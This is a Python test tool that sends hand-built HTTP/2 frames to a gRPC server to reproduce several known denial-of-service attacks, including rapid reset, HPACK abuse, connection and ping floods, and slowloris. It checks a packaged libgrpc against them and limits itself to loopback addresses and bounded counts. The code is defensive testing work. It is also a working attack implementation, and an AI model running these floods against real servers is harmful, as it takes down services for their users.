#!/usr/bin/python3
"""HTTP/2 attacks on a gRPC listener, from raw frames, bounded in time.

Each attack is one that broke or threatened Debian's libgrpc 1.51.1
(docs/security.md): it connects from --source (a loopback address other
than the probe's, so per-client limits can be seen), runs for at most
--seconds and its own count bound, and prints one JSON line of what it did
and what the peer did back (connections, streams, bytes, GOAWAYs, ...).

  h2attack.py rapid_reset --target=127.0.0.1:50051 --source=127.0.0.2 \
    --seconds=4 [--scale=1.0]

--scale multiplies the attack's count bounds (streams, connections,
bytes). Loopback only: --target and --source must be 127.x.y.z.
Frames are written by hand (a client library would refuse to send most of
them); header blocks are encoded with Debian's python3-hpack.
"""

import argparse
import errno
import json
import resource
import select
import socket
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
RANK_OFFERS = "/remit.v1.RemitRank/RankOffers"


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def grpc_message(body, declared=None):
    """A gRPC length-prefixed message (uncompressed); `declared` lies."""
    return b"\0" + struct.pack(">I", len(body) if declared is None else declared) + body


def rank_offers_request():
    """RankOffersRequest{corridor: US->MX, send_amount: 200 USD}, encoded."""
    corridor = b"\x0a\x02US\x1a\x02MX"
    amount = b"\x0a\x03USD\x10\xc8\x01"
    return (b"\x0a" + bytes([len(corridor)]) + corridor + b"\x12" +
            bytes([len(amount)]) + amount)


class Conn:
    """One HTTP/2 client connection of raw frames over a blocking socket.

    pump() reads whatever the peer sent without blocking and keeps count of
    its frames; the peer's SETTINGS are acknowledged only if ack_settings.
    """

    def __init__(self, target, source, ack_settings=True, preface=True,
                 decode=False):
        host, port = target.rsplit(":", 1)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.bind((source, 0))
        self.sock.settimeout(2)
        self.sock.connect((host, int(port)))
        self.sock.settimeout(1)
        self.authority = target
        self.encoder = hpack.Encoder()
        self.ack_settings = ack_settings
        # False in the middle of a header block, where any other frame
        # (a SETTINGS or PING acknowledgement) is a protocol error.
        self.replies = True
        self.buffer = b""
        self.closed = False
        self.stalled = False  # The peer stopped reading for 1 s.
        self.goaway = None  # The peer's GOAWAY error code, if any.
        self.frames = {}  # Frame type -> count received.
        self.ended = set()  # Streams the peer ended (END_STREAM).
        # With decode, the grpc-status of each stream that got one.
        self.decoder = hpack.Decoder() if decode else None
        self.grpc_status = {}
        self.send_window = 65535  # Connection-level, from the peer.
        self.stream_windows = {}
        self.initial_window = 65535
        self.next_stream = 1
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        if self.closed or self.stalled:
            return False
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            self.stalled = True  # Framing is lost: send nothing more.
        except OSError:
            self.closed = True
        return False

    def headers_block(self, path=RANK_OFFERS, extra=()):
        return self.encoder.encode(
            [(":method", "POST"), (":scheme", "http"), (":path", path),
             (":authority", self.authority),
             ("content-type", "application/grpc"), ("te", "trailers")] +
            list(extra))

    def open_stream(self, path=RANK_OFFERS, extra=(), end_stream=False):
        stream = self.next_stream
        self.next_stream += 2
        self.stream_windows[stream] = self.initial_window
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        self.send(frame(HEADERS, flags, stream, self.headers_block(path, extra)))
        return stream

    def pump(self, wait=0.0):
        """Reads and handles what has arrived (waiting up to `wait` s)."""
        while not self.closed:
            poller = select.poll()  # select() cannot watch fds >= 1024.
            poller.register(self.sock, select.POLLIN)
            if not poller.poll(wait * 1000):
                return
            wait = 0.0
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = struct.unpack(">I", b"\0" + self.buffer[:3])[0]
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = struct.unpack(">I", self.buffer[5:9])[0] & 0x7FFFFFFF
                payload = self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                self.frames[kind] = self.frames.get(kind, 0) + 1
                self.handle(kind, flags, stream, payload)

    def handle(self, kind, flags, stream, payload):
        if kind in (DATA, HEADERS) and flags & END_STREAM:
            self.ended.add(stream)
        if kind == HEADERS and self.decoder is not None:
            for name, value in self.decoder.decode(payload):
                if name in ("grpc-status", b"grpc-status"):
                    self.grpc_status[stream] = int(value)
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                if key == 4:  # SETTINGS_INITIAL_WINDOW_SIZE
                    for s in self.stream_windows:
                        self.stream_windows[s] += value - self.initial_window
                    self.initial_window = value
            if self.ack_settings and self.replies:
                self.send(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if stream == 0:
                self.send_window += increment
            elif stream in self.stream_windows:
                self.stream_windows[stream] += increment
        elif kind == PING and not flags & ACK and self.replies:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and len(payload) >= 8:
            self.goaway = struct.unpack(">I", payload[4:8])[0]
        elif kind == RST_STREAM:
            self.stream_windows.pop(stream, None)

    def close(self):
        self.closed = True
        self.sock.close()


class Result(dict):
    def count(self, key, n=1):
        self[key] = self.get(key, 0) + n


def connect(args, result, **kwargs):
    try:
        conn = Conn(args.target, args.source, **kwargs)
        result.count("connections")
        return conn
    except OSError as e:
        result.count("connect_errors")
        result["last_connect_error"] = errno.errorcode.get(e.errno, str(e))
        return None


def note_close(conn, result):
    result.count("peer_closed")
    if conn.goaway is not None:
        result.setdefault("goaway_codes", [])
        if conn.goaway not in result["goaway_codes"]:
            result["goaway_codes"].append(conn.goaway)


def rapid_reset(args, end, result):
    """HEADERS + DATA (a real request) + RST_STREAM(CANCEL), as fast as the
    socket takes them, on one connection at a time (a new one whenever the
    peer closes it). CVE-2023-44487."""
    limit = int(2_000_000 * args.scale)
    body = grpc_message(rank_offers_request())
    conn = None
    while time.monotonic() < end and result.get("streams", 0) < limit:
        if conn is None or conn.closed:
            if conn is not None:
                note_close(conn, result)
            conn = connect(args, result)
            if conn is None:
                time.sleep(0.05)
                continue
        batch = []
        for _ in range(50):
            stream = conn.next_stream
            conn.next_stream += 2
            batch.append(frame(HEADERS, END_HEADERS, stream, conn.headers_block()))
            batch.append(frame(DATA, 0, stream, body))
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
        if conn.send(b"".join(batch)):
            result.count("streams", 50)
        conn.pump()
    if conn is not None:
        conn.close()


def settings_no_ack(args, end, result):
    """Streams held open on connections that never acknowledge SETTINGS, so
    the peer's stream limit is (wrongly) never applied: each stream sends
    its headers and the first bytes of a message, then nothing."""
    connections = max(1, int(5 * args.scale))
    per_connection = int(10_000 * args.scale)
    conns = [c for c in (connect(args, result, ack_settings=False)
                         for _ in range(connections)) if c]
    partial = grpc_message(rank_offers_request())[:8]
    for conn in conns:
        sent = 0
        while sent < per_connection and time.monotonic() < end and not conn.closed:
            batch = []
            for _ in range(100):
                stream = conn.next_stream
                conn.next_stream += 2
                batch.append(frame(HEADERS, END_HEADERS, stream, conn.headers_block()))
                batch.append(frame(DATA, 0, stream, partial))
            if conn.send(b"".join(batch)):
                sent += 100
                result.count("streams", 100)
            conn.pump()
    while time.monotonic() < end:  # Hold them.
        for conn in conns:
            conn.pump()
        time.sleep(0.1)
    for conn in conns:
        result.count("refused_or_reset", conn.frames.get(RST_STREAM, 0))
        if conn.closed:
            note_close(conn, result)
        conn.close()


def hpack_abuse(args, end, result, huge_string):
    """Header blocks that are expensive to decode (CVE-2023-33953), on four
    connections: either integers padded with continuation bytes
    (varint padding), or one literal header whose string declares 256 MiB
    and is then sent in CONTINUATION frames."""
    connections = 4
    cap = int(16 * 2**20 * args.scale)  # Bytes of header block per connection.
    conns = [c for c in (connect(args, result) for _ in range(connections)) if c]
    chunk = 16384
    streams = {}
    for conn in conns:
        conn.pump(0.2)  # The peer's SETTINGS, acknowledged before the block.
        conn.replies = False
        stream = conn.next_stream
        conn.next_stream += 2
        streams[conn] = stream
        if huge_string:
            # Literal without indexing, new name "x", value length 2^28
            # (7-bit prefix integer, then continuation bytes).
            declared = 1 << 28
            head = b"\x00\x01x"
            n = declared - 127
            value_len = b"\x7f"
            while n >= 128:
                value_len += bytes([(n & 0x7F) | 0x80])
                n >>= 7
            value_len += bytes([n])
            first = conn.headers_block() + head + value_len + b"a" * 1024
        else:
            first = conn.headers_block()
        conn.send(frame(HEADERS, 0, stream, first))
        result.count("header_bytes", len(first))
    # Varint padding: an indexed field whose 7-bit prefix integer never
    # ends: 0xff, then continuation bytes (0x80) that add nothing, frame
    # after frame.
    if not huge_string:
        for conn in conns:
            conn.send(frame(CONTINUATION, 0, streams[conn], b"\xff"))
    payload = (b"a" if huge_string else b"\x80") * chunk
    sending = list(conns)
    while time.monotonic() < end and sending:
        for conn in list(sending):
            if (conn.closed or conn.stalled or
                    result.get("header_bytes", 0) >= cap * connections):
                sending.remove(conn)
                continue
            if conn.send(frame(CONTINUATION, 0, streams[conn], payload)):
                result.count("header_bytes", chunk)
            conn.pump()
    while time.monotonic() < end:  # Hold the connections open.
        for conn in conns:
            conn.pump()
        time.sleep(0.1)
    for conn in conns:
        if conn.closed:
            note_close(conn, result)
        result.count("stalled", conn.stalled)
        conn.close()


def hpack_varint(args, end, result):
    hpack_abuse(args, end, result, huge_string=False)


def hpack_huge_string(args, end, result):
    hpack_abuse(args, end, result, huge_string=True)


def huge_message(args, end, result):
    """Four streams each declaring a 1 GiB message, then sending it as fast
    as flow control lets them (at most 256 MiB each, times --scale)."""
    conn = connect(args, result)
    if conn is None:
        return
    cap = int(256 * 2**20 * args.scale)
    streams = [conn.open_stream() for _ in range(4)]
    sent = dict.fromkeys(streams, 0)
    first = dict.fromkeys(streams, True)
    block = b"\0" * 16384
    conn.pump(0.2)
    while time.monotonic() < end and not conn.closed:
        progress = False
        for s in streams:
            window = min(conn.send_window, conn.stream_windows.get(s, 0), 16384)
            if window <= 0 or sent[s] >= cap:
                continue
            payload = (grpc_message(b"", declared=1 << 30) + block)[:window] \
                if first[s] else block[:window]
            first[s] = False
            if conn.send(frame(DATA, 0, s, payload)):
                conn.send_window -= len(payload)
                conn.stream_windows[s] -= len(payload)
                sent[s] += len(payload)
                result.count("body_bytes", len(payload))
                progress = True
        conn.pump(0 if progress else 0.05)
        if all(v >= cap for v in sent.values()):
            break
        if not conn.stream_windows and not progress:
            break  # Every stream was reset.
    result["streams_reset"] = conn.frames.get(RST_STREAM, 0)
    if conn.closed:
        note_close(conn, result)
    conn.close()


def conn_flood(args, end, result):
    """Opens connections as fast as it can (up to 3,000 times --scale; each
    sends the HTTP/2 preface) and holds them: the peer runs out of file
    descriptors if it has too few (CVE-2023-4785)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    limit = int(3000 * args.scale)
    conns = []
    while time.monotonic() < end and len(conns) < limit:
        conn = connect(args, result)
        if conn is not None:
            conns.append(conn)
        elif result.get("connect_errors", 0) > 100:
            break
    while time.monotonic() < end:
        time.sleep(0.2)
    alive = 0
    for conn in conns:
        conn.pump()
        alive += not conn.closed
        conn.close()
    result["held_at_end"] = alive


def bad_bin(args, end, result):
    """Ten calls in flight on a connection, then one more whose `-bin`
    header is not base64 (CVE-2023-32732): did the ten survive? Repeated
    on new connections until the time is up (at most 200 times --scale)."""
    limit = int(200 * args.scale)
    body = grpc_message(rank_offers_request())
    rounds = 0
    while time.monotonic() < end and rounds < limit:
        conn = connect(args, result, decode=True)
        if conn is None:
            time.sleep(0.05)
            continue
        rounds += 1
        held = [conn.open_stream() for _ in range(10)]
        conn.open_stream(extra=[("x-trace-bin", "!!not*base64!!" * 300)],
                         end_stream=False)
        conn.pump(0.05)
        for s in held:  # Now finish the ten calls.
            conn.send(frame(DATA, END_STREAM, s, body))
        deadline = time.monotonic() + 1.0
        while (not conn.closed and time.monotonic() < deadline and
               not conn.ended.issuperset(held)):
            conn.pump(0.05)
        # Answered: each of the ten got its ranking (grpc-status 0) or a
        # refusal for its own sake (RESOURCE_EXHAUSTED or UNAVAILABLE from a
        # rate limit, with the connection kept); lost: the connection went
        # down with them.
        if all(conn.grpc_status.get(s) == 0 for s in held):
            result.count("rounds_other_calls_answered")
        elif conn.closed:
            result.count("rounds_other_calls_lost")
        else:
            result.count("rounds_other_calls_refused")
        conn.close()


def slowloris(args, end, result):
    """200 connections (times --scale) each sending the preface and a
    SETTINGS frame one byte every second."""
    count = int(200 * args.scale)
    conns = [c for c in (connect(args, result, preface=False)
                         for _ in range(count)) if c]
    message = PREFACE + frame(SETTINGS, 0, 0)
    position = 0
    while time.monotonic() < end and conns:
        tick = time.monotonic()
        for conn in conns:
            if position < len(message):
                conn.send(message[position:position + 1])
            conn.pump()
        position += 1
        time.sleep(max(0.0, 1.0 - (time.monotonic() - tick)))
    result["bytes_each"] = position
    result["closed_by_peer"] = sum(c.closed for c in conns)
    for conn in conns:
        conn.close()


def ping_flood(args, end, result):
    """PING frames as fast as the socket takes them (acknowledgements read
    and dropped), a new connection whenever the peer closes one; at most
    5 million pings times --scale."""
    limit = int(5_000_000 * args.scale)
    conn = None
    batch = frame(PING, 0, 0, b"\0" * 8) * 100
    while time.monotonic() < end and result.get("pings", 0) < limit:
        if conn is None or conn.closed:
            if conn is not None:
                note_close(conn, result)
                result.count("ping_acks", conn.frames.get(PING, 0))
            conn = connect(args, result)
            if conn is None:
                time.sleep(0.05)
                continue
        if conn.send(batch):
            result.count("pings", 100)
        conn.pump()
    if conn is not None:
        conn.pump()
        result.count("ping_acks", conn.frames.get(PING, 0))
        conn.close()


ATTACKS = {
    f.__name__: f for f in (rapid_reset, settings_no_ack, hpack_varint,
                            hpack_huge_string, huge_message, conn_flood,
                            bad_bin, slowloris, ping_flood)
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--target", required=True, help="HOST:PORT")
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--scale", type=float, default=1.0)
    args = parser.parse_args()
    for address in (args.target.rsplit(":", 1)[0], args.source):
        if not address.startswith("127."):
            parser.error(f"{address}: loopback (127.x.y.z) only")
    result = Result(attack=args.attack)
    start = time.monotonic()
    try:
        ATTACKS[args.attack](args, start + args.seconds, result)
    except OSError as e:
        result["error"] = str(e)
    result["seconds"] = round(time.monotonic() - start, 2)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
